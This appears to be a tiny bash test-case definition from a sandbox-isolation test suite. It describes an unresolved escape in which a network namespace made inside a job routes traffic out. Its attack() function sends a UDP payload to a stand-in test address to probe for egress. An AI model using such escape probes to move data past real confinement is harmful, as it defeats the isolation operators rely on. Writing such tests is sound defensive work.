# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A network namespace made inside, routed through the job'
origin='issue 4'
reason='not_resolved'
who=root forms=forward
attack() { through_the_job "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"; }
